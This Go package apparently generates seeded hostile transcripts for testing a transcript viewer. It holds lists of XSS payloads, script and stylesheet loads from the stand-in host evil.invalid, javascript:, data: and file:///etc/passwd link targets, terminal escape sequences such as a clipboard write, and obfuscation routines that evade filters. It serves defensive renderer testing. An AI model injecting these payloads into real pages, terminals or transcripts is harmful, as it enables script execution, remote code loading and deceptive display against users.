// Package hostile makes transcripts that try to run, load, follow, hide, reorder
// or break out, for the tests of whatever shows transcripts. They are made from
// a seed, so that a failure can be repeated, by putting payloads into contexts
// into disguises. Nothing here is used outside of tests.
//
//	text := hostile.New(seed).Text()
package hostile

import (
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"strings"

	"github.com/tidemark-sessions/tidemark"
)

// Payloads run when they get through. Pwn is what a browser test listens for.
const Pwn = "window.__pwned=1;alert(1)"

var Payloads = []string{
	"<script>" + Pwn + "</script>", "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>", "<scr<script>ipt>" + Pwn + "</scr</script>ipt>",
	"<script\x00>" + Pwn + "</script>", "<script/x>" + Pwn + "</script\t>", "<script>" + Pwn + "<!--", "<<script>" + Pwn + "//<</script>",
	"<img src=x onerror=" + Pwn + ">", "<img src=`x`onerror=" + Pwn + ">", "<IMG \"\"\"><SCRIPT>" + Pwn + "</SCRIPT>\">",
	"<img src=https://evil.invalid/p.png srcset='https://evil.invalid/q.png 2x'>", "<img/src/onerror=" + Pwn + ">",
	"<svg onload=" + Pwn + ">", "<svg><script>" + Pwn + "</script></svg>", "<svg><animate onbegin=" + Pwn + " attributeName=x dur=1s>",
	"<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></svg>", "<svg><style><img src=x onerror=" + Pwn + "></style>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=" + Pwn + ">\">",
	"<math href='javascript:" + Pwn + "'>x</math>", "<body onload=" + Pwn + ">", "<details open ontoggle=" + Pwn + ">",
	"<input autofocus onfocus=" + Pwn + ">", "<video><source onerror=" + Pwn + "></video>", "<audio src=https://evil.invalid/a.mp3 autoplay>",
	"<iframe src='javascript:" + Pwn + "'></iframe>", "<iframe srcdoc='<script>parent." + Pwn + "</script>'></iframe>",
	"<object data='data:text/html,<script>" + Pwn + "</script>'>", "<embed src=https://evil.invalid/e.swf>",
	"<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<meta http-equiv=refresh content='0;url=javascript:" + Pwn + "'>",
	"<base href=https://evil.invalid/>", "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=prefetch href=https://evil.invalid/>",
	"<style>@import 'https://evil.invalid/x.css';body{background:url(https://evil.invalid/b)}</style>",
	"</style><script>" + Pwn + "</script>", "</title><script>" + Pwn + "</script>", "</pre></code><script>" + Pwn + "</script>",
	"</details></article></main><script>" + Pwn + "</script>", "</summary><img src=x onerror=" + Pwn + ">", "</textarea></noscript><svg onload=" + Pwn + ">",
	"<form action=https://evil.invalid/><button autofocus>x</button></form>", "<form><button formaction='javascript:" + Pwn + "'>x",
	"<template><script>" + Pwn + "</script></template>", "<template shadowrootmode=open><img src=x onerror=" + Pwn + "></template>",
	"<noscript><p title=\"</noscript><img src=x onerror=" + Pwn + ">\">", "<plaintext>", "<xmp><script>" + Pwn + "</script></xmp>",
	"<!--><script>" + Pwn + "</script>-->", "<!-- --!><script>" + Pwn + "</script>", "<![CDATA[><script>" + Pwn + "</script>]]>", "<?xml ?><script>" + Pwn + "</script>",
	"\"><script>" + Pwn + "</script>", "' onmouseover='" + Pwn, "\" autofocus onfocus=\"" + Pwn, "` onload=" + Pwn, "x\" style=\"background:url(https://evil.invalid/s)",
	"<a href='javascript:" + Pwn + "'>x</a>", "<div style='background:url(https://evil.invalid/c)'>", "<div style=width:expression(" + Pwn + ")>",
	"<marquee onstart=" + Pwn + ">", "<isindex type=image src=1 onerror=" + Pwn + ">", "<portal src=https://evil.invalid/>", "<frameset onload=" + Pwn + ">",
	"\ufeff<script>" + Pwn + "</script>", "＜script＞" + Pwn + "＜/script＞", "<ſcript>" + Pwn + "</ſcript>", "+ADw-script+AD4-" + Pwn + "+ADw-/script+AD4-",
	"<1`@b.c><script>" + Pwn + "</script>`", "http://a.b/`<script>" + Pwn + "</script>`", "&#60;script&#62;" + Pwn + "&#60;/script&#62;", "{{constructor.constructor('" + Pwn + "')()}}",
}

// Goals are targets that Links must not lead to.
var Goals = []string{
	"javascript:" + Pwn, "JaVaScRiPt:" + Pwn, "javascript&colon;" + Pwn, "javascript&#58;" + Pwn, "javascript&#x3A;" + Pwn, "&#106;avascript:" + Pwn,
	"&#x6A&#x61vascript:" + Pwn, "java\tscript:" + Pwn, "java&Tab;script:" + Pwn, "java&NewLine;script:" + Pwn, "java\nscript:" + Pwn, "\x01javascript:" + Pwn,
	" javascript:" + Pwn, "&nbsp;javascript:" + Pwn, "\u00a0javascript:" + Pwn, "\u2028javascript:" + Pwn, "javascript\\:" + Pwn, "\\javascript:" + Pwn,
	"%6Aavascript:" + Pwn, "javascript%3A" + Pwn, "javascript://x.y/%0A" + Pwn, "feed:javascript:" + Pwn, "view-source:javascript:" + Pwn, "jar:javascript:" + Pwn,
	"data:text/html,<script>" + Pwn + "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=" + Pwn + ">", "data&colon;text/html,x",
	"vbscript:msgbox(1)", "VBScript&#58;msgbox(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "?x", "#e1", "../x", "blob:https://evil.invalid/x",
	"https://evil.invalid/\"onmouseover=\"" + Pwn, "https://evil.invalid/'><script>" + Pwn + "</script>", "https://evil.invalid/\u202egpj.exe", "mailto:a@b.c\"onclick=" + Pwn,
	"http:javascript:" + Pwn, "https:\\\\evil.invalid", "ws://evil.invalid", "about:blank", "chrome://crash", "intent://x#Intent;end", "ms-msdt:/id", "x-apple:1",
}

// Links put a target into Markdown.
var Links = []string{
	"[x](%s)", "[x](<%s>)", "[x]( %s 'title')", "![x](%s)", "![x](<%s> \"t\")", "[![x](%s)](%s)", "[x]\n\n[x]: %s", "[x]: %s \"t\"\n\n[x][] ![x][]", "[x]: <%s>\n[y][x]",
	"<%s>", "[`x]: %s '`'\n\n[`x]", "[a\nb `x]: %s '`'\n", "[[x](%s)](%s)", "[x [y](%s) z](%s)", "![[x](%s)](%s)", "[x](\n%s\n)", "> [x](%s)", "- [x](%s)\n  [y]: %s\n  [y]",
	"[^1]: %s\n\nx[^1]", "| [x](%s) | y |\n|---|---|\n| ![x](%s) | `%s` |", "**[x](%s**)", "[x](%s \"\n<script>\")", "%s", "see %s.", "www.%s", "[x][%s]", "[%s]", "# [x](%s)", "~~[x](%s)~~",
	"[x](%s){onclick=alert(1)}", "# x {#id onclick=alert(1)}", "<mailto:%s>", "[<%s>](https://a.b/)", "[https://a.b](%s)",
}

// Contexts put text where a parser may believe something else to be open.
var Contexts = []string{
	"%s", "text %s text", "`%s`", "`` ` %s ``", "```\n%s\n```", "```html\n%s", "~~~\n%s\n```\n~~~", "````\n```\n%s\n````", "    %s", "\t%s", "> %s", "> > - %s", "- %s", "1. %s", "- - > %s",
	"- a\n\n  ```\n  %s\n  ```", "- ```\n%s\n  ```", "- a\n\n     ```\n  ```\n  %s", "para\n    ```\n    %s", "> ```\n%s", "1. ```html\n   %s\n   ```", "x ` y\n` %s ` z", "\\`%s`", "| ` | %s | ` |\n|-|-|-|",
	"| a | b |\n|---|---|\n| %s | `%s` |", "# %s", "%s\n===", "%s\n---", "*%s*", "**_%s_**", "~~%s~~", "<div>\n%s\n\n%s", "<!-- %s", "<!--\n\n%s\n-->", "$ ` $ %s `", "$$\n%s\n$$", "[^a]: %s",
	"[x]: /u \"\n%s\"", "``` `\n%s\n```", "```\n%s\n   ````", "   ```\n%s\n    ```\n%s", "- [ ] %s", "\\%s", "\\\\%s", "a\\\n%s", "&lt;%s", "%s\r\n%s", "%s\x00%s", "::: x\n%s\n:::", "%%%% %s %%%%", "{{ %s }}",
}

// Sequences act on a terminal or change how text reads.
var Sequences = []string{
	"\x1b]0;pwned\x07", "\x1b]52;c;cHduZWQ=\x1b\\", "\x1b]8;;https://evil.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Gi=1;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bX\x1b\\", "\x1b[2J\x1b[H", "\x1b[?1049h",
	"\x1b[6n", "\x1b[31m", "\x1bc", "\x9b31m", "\u009b31m", "\u009d0;x\u009c", "\x90x\x9c", "\r", "\b\b\b", "\x7f", "\x0e", "\x00", "\xff\xfe", "\xc0\xbc", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80",
	"\u202e", "\u202d\u202c", "\u2066\u2069", "\u2067", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\U000e0041", "\ufe0f\ufe0f", "&#x202e;", "&rlm;", "&#27;[2J", "&zwj;", "&ZeroWidthSpace;", "&#0;", "&#xd800;", "&#1114112;", "&shy;",
}

// Corpus makes hostile things from a seed.
type Corpus struct{ *rand.Rand }

// New returns the corpus of a seed.
func New(seed uint64) Corpus { return Corpus{rand.New(rand.NewPCG(seed, 7))} }

// Of picks one.
func (c Corpus) Of(all []string) string { return all[c.IntN(len(all))] }

// Fill puts s at each %s of a pattern.
func Fill(pattern, s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(pattern, "%s", s), "%%", "%")
}

// Disguise hides what s is in one of the ways that fool filters.
func (c Corpus) Disguise(s string) string {
	switch c.IntN(12) {
	case 0:
		return strings.ToUpper(s)
	case 1:
		return html.EscapeString(s)
	case 2:
		var b strings.Builder
		for _, r := range s {
			if c.IntN(4) == 0 {
				fmt.Fprintf(&b, "&#x%x;", r)
			} else {
				b.WriteRune(r)
			}
		}
		return b.String()
	case 3:
		i := c.IntN(len(s) + 1)
		return s[:i] + c.Of(Sequences) + s[i:]
	case 4:
		i := c.IntN(len(s) + 1)
		return s[:i] + c.Of([]string{"\n", "\t", "\n\n", "\\", "`", "|", "<", ">", "\"", "'", "]", "](", "```\n", "\n> ", "\n- ", "&", "\r\n"}) + s[i:]
	case 5:
		return strings.ReplaceAll(s, "<", "<\n")
	case 6:
		return s[c.IntN(len(s)):]
	case 7:
		return strings.ReplaceAll(s, " ", "/")
	}
	return s
}

// Text returns a few hostile lines.
func (c Corpus) Text() string {
	var b strings.Builder
	for range 1 + c.IntN(4) {
		s := c.Disguise(c.Of(Payloads))
		switch c.IntN(4) {
		case 0:
			s = Fill(c.Of(Links), c.Disguise(c.Of(Goals)))
		case 1:
			s = c.Of(Sequences) + s + c.Of(Sequences)
		}
		for range 1 + c.IntN(2) {
			s = Fill(c.Of(Contexts), s)
		}
		b.WriteString(s)
		b.WriteString(c.Of([]string{"\n", "\n\n", " ", ""}))
	}
	return b.String()
}

// Block returns a hostile block, with others in it while depth is small.
func (c Corpus) Block(depth int) tidemark.Block {
	types := []string{tidemark.BlockText, tidemark.BlockText, tidemark.BlockThinking, tidemark.BlockToolUse, tidemark.BlockToolResult,
		tidemark.BlockImage, tidemark.BlockFile, c.Of(Payloads)}
	b := tidemark.Block{Type: c.Of(types), Text: c.Text(), IsError: c.IntN(2) == 0}
	if c.IntN(8) == 0 {
		b.Text = ""
	}
	b.ID, b.ToolUseID, b.Name, b.Provider, b.Raw = c.Of(Payloads), c.Of(Payloads), c.Disguise(c.Of(Payloads)), c.Of(Payloads), c.Of(Payloads)
	b.URL = c.Disguise(c.Of(Goals))
	b.MediaType = c.Of([]string{"image/png", "image/svg+xml", "text/html", "image/png\" onerror=\"" + Pwn, "image/gif;base64,x", "IMAGE/JPEG"})
	if c.IntN(2) == 0 {
		b.Data = []byte(c.Of(Payloads))
	}
	switch c.IntN(4) {
	case 0:
		b.Input = json.RawMessage(c.Text())
	case 1:
		b.Input, _ = json.Marshal(map[string]any{"old_string": c.Text(), "new_string": c.Text(), c.Of(Payloads): c.Text()})
	case 2:
		b.Input, _ = json.Marshal(map[string]any{c.Of(Payloads): []any{c.Text(), 1, nil}, "edits": []any{map[string]string{"oldText": c.Text(), "newText": c.Text()}}})
	}
	for range c.IntN(3 - min(depth, 2)) {
		b.Blocks = append(b.Blocks, c.Block(depth+1))
	}
	return b
}
